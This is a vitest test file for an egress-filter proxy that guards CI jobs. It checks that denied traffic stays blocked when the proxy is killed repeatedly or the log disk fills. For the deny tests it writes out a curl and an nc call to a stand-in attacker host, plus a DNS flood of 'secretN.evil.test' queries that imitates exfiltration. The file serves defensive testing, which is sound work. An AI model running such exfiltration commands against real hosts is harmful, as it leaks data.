import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { LogEvent } from '../../src/log/event.ts';
import { FULL, readValidLog } from '../e2e/faults-lab.ts';
import { asked, type Job, type JobResult, reached, startJob, transcript, WORLD } from '../runner/runner.ts';
import { proxyOf, statusOf } from './guard-lab.ts';

const fixture = (name: string): string => readFileSync(join(import.meta.dirname, 'fixtures', name), 'utf8');

const logOf = (job: Job): string => {
  const directory = join(job.machine.directory, 'log/egress-filter');
  return join(directory, readdirSync(directory)[0] ?? '', 'log.jsonl');
};

describe('the proxy is killed in the middle of 200 transfers, ten times in a row', () => {
  // All 200 are back within a second or two where the machine is idle.
  const TRANSFERS = FULL ? 200 : 60;
  const KILLS = 10;
  let job: Job;
  let result: JobResult;
  let log: LogEvent[];
  let restarts: number;
  const kills: { at: number; running: number; back: number; all: number }[] = [];

  /** What the uploads told; times in ms. */
  const events = (): { at: number; what: string }[] =>
    readFileSync(job.machine.home('work/repo/repo/events'), 'utf8')
      .split('\n')
      .slice(0, -1)
      .map((line) => line.split(' '))
      .filter(([, , way]) => way === 'upload')
      .map(([at, what = '']) => ({ at: Number(at) * 1000, what }));
  const count = (what: string, all = events()): number => all.filter((event) => event.what === what).length;
  const running = (): number => {
    const all = events();
    return count('begin', all) - count('broke', all) - count('whole', all);
  };

  beforeAll(async () => {
    job = await startJob({
      action: { with: { policy: 'ok.test\nok.test:80\nother.test passthrough' } },
      workspace: { 'transfers.py': fixture('transfers.py') },
      steps: [{ name: 'transfers', run: `python3 transfers.py ${TRANSFERS} ${WORLD.ok} ${WORLD.evil}` }],
    });
    await job.workspaceFile('events');
    const most = 0.95 * TRANSFERS;
    await job.machine.until('transfers', () => (running() >= most ? true : undefined), 20_000);
    for (let kill = 1; kill <= KILLS; kill++) {
      const [pid = 0] = proxyOf(job.machine);
      const at = Date.now();
      const before = running();
      process.kill(pid, 'SIGKILL');
      // The attempt was made after the kill, so that nobody else than the next proxy has answered.
      const since = (): number => events().filter((event) => event.what === 'begin' && event.at > at).length;
      await job.machine.until('the first transfer with the next proxy', () => (since() > 0 ? true : undefined));
      const back = Date.now() - at;
      await job.machine.until('all transfers with the next proxy', () => (since() >= most ? true : undefined), 20_000);
      kills.push({ at, running: before, back, all: Date.now() - at });
      await sleep(200);
    }
    restarts = statusOf(job.machine).restarts;
    job.machine.inside(['touch', '/home/runner/work/repo/repo/stop']);
    result = await job.completed();
    log = readValidLog(logOf(job));
  }, 180_000);
  afterAll(() => job?.stop());

  test('each time some 200 are broken, and with the next proxy they are served again', () => {
    if (FULL) process.stderr.write(`${JSON.stringify(kills)}\n`);
    for (const { running } of kills) expect(running).toBeGreaterThanOrEqual(0.9 * TRANSFERS);
    // Two seconds are the goal; a machine that is busy with other tests may take longer now and then.
    const times = kills.map(({ back }) => back).sort((a, b) => a - b);
    expect(times[KILLS / 2], `${times}`).toBeLessThan(2000);
    expect(restarts).toBe(KILLS);
    expect(result.conclusion, transcript(result)).toBe('success');
  });

  test('of what is denied the world sees nothing, not one packet', () => {
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.endsWith('evil.test'))).toEqual([]);
    // A question that was lost with a proxy keeps the attacker waiting for seconds: how often he tries is a matter of luck.
    expect(log.filter(({ dst_ip, policy }) => dst_ip === WORLD.evil && policy === 'deny').length).toBeGreaterThan(0);
  });

  test('the log is whole lines, and tells of each end', () => {
    expect(log.filter(({ type, reason }) => type === 'guard' && reason?.includes('signal 9'))).toHaveLength(KILLS);
  });
});

test('the disk of the log is full: what is decided is decided, a new proxy comes up, the guard says so, and the log stays whole lines', async () => {
  // Names that are denied, a line each.
  const flood = `import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.connect(("${WORLD.dns}", 53))
for n in range(1500):
    s.send(struct.pack("!6H", n, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in (b"secret%d" % n, b"evil", b"test")) + b"\\0\\0\\1\\0\\1")
    try: s.recv(512)
    except OSError: pass`;
  const wait = (name: string): string => `while [ ! -e ${name} ]; do sleep 0.05; done`;
  const evil = `( curl -sSk --max-time 2 https://${WORLD.evil}/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999 ) || true`;
  const allowed = (path: string): string => `curl -sS --max-time 60 https://ok.test/${path}`;
  const job = await startJob({
    before: (machine) => machine.inside(['mount', '-t', 'tmpfs', '-o', 'size=256k,mode=755', 'tmpfs', '/var/log']),
    action: { with: { policy: 'ok.test' } },
    workspace: { 'flood.py': flood },
    steps: [
      { name: 'full', run: `python3 flood.py; ${evil}; ${allowed('full')} && touch full; ${wait('killed')}` },
      { name: 'killed', run: `${evil}; ${allowed('killed')} && touch passed; ${wait('room')}` },
      { name: 'room', run: `${evil}; ${allowed('room')}` },
    ],
  });
  const inside = (script: string): string => job.machine.inside(['sh', '-c', script]).stdout;
  const copy = join(job.machine.directory, 'copy.jsonl');
  const log = (): LogEvent[] => {
    writeFileSync(copy, inside('cat /var/log/egress-filter/*/log.jsonl'));
    return readValidLog(copy);
  };
  const touch = (name: string): unknown => inside(`touch /home/runner/work/repo/repo/${name}`);
  try {
    await job.workspaceFile('full');
    expect(inside('df --output=avail /var/log | tail -1').trim()).toMatch(/^[0-4]$/);
    expect(log().length).toBeGreaterThan(300);
    const problem = (): string | undefined => statusOf(job.machine).problems.find((text) => text.startsWith('The log cannot be written'));
    expect(await job.machine.until('a problem of the guard', problem)).toMatch(/\d+ lines wait in memory/);

    process.kill(await job.machine.until('the proxy', () => proxyOf(job.machine)[0]), 'SIGKILL');
    touch('killed');
    await job.workspaceFile('passed');
    log();
    inside('mount -o remount,size=16m /var/log');
    touch('room');
    const result = await job.completed();
    expect(result.conclusion, transcript(result)).toBe('success');
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.endsWith('evil.test'))).toEqual([]);
    const all = log();
    for (const path of ['killed', 'room'])
      expect(
        all.some(({ url }) => url === `https://ok.test/${path}`),
        path,
      ).toBe(true);
    expect(all.some(({ type, reason }) => type === 'guard' && reason?.includes('lines that it could not write to the log'))).toBe(true);
  } finally {
    await job.stop();
  }
});
